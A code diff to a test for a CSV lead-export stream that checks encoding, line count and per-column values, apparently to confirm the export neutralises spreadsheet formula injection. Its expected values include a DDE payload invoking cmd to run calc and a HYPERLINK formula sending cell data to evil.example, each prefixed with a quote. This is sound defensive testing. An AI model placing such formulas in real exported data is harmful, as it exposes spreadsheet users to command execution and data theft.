@@ -48,14 +48,22 @@ it('streams 50,000 leads as escaped UTF-8 CSV', async () => {
   expect(response.headers.get('content-length')).toBeNull();
   const bytes = new Uint8Array(await response.arrayBuffer());
   expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
-  const text = new TextDecoder().decode(bytes).slice(1);
+  // TextDecoder drops the byte-order mark checked above.
+  const text = new TextDecoder().decode(bytes);
   const lines = text.split('\r\n');
   expect(lines.at(-1)).toBe('');
   expect(lines).toHaveLength(50_002);
-  expect(lines[2]).toBe(
-    `'@SUM(1+1)*cmd|' /C calc'!A0,,,,Sevilla,,,'+34 954 00 00 00,,https://peluqueria2.es,,hola@peluqueria.es,,,,,,,,,,,,unknown,,,,,osm:node/2,,` +
-      lines[2]!.split(',').at(-1),
-  );
+  const header = lines[0]!.split(',');
+  const cells = lines[2]!.split(',');
+  const cell = (name: string) => cells[header.indexOf(name)];
+  expect(cell('business_name')).toBe(`'@SUM(1+1)*cmd|' /C calc'!A0`);
+  expect(cell('city')).toBe('Sevilla');
+  expect(cell('phone')).toBe(`'+34 954 00 00 00`);
+  expect(cell('website')).toBe('https://peluqueria2.es');
+  expect(cell('email')).toBe('hola@peluqueria.es');
+  expect(cell('company_size')).toBe('unknown');
+  expect(cell('source_id')).toBe('osm:node/2');
+  expect(cells).toHaveLength(header.length);
   expect(text).toContain(`"Peluquería Núñez, ""La Única""",`);
   expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1)",`);
   // No line (other than inside quotes) starts a cell with a formula character.
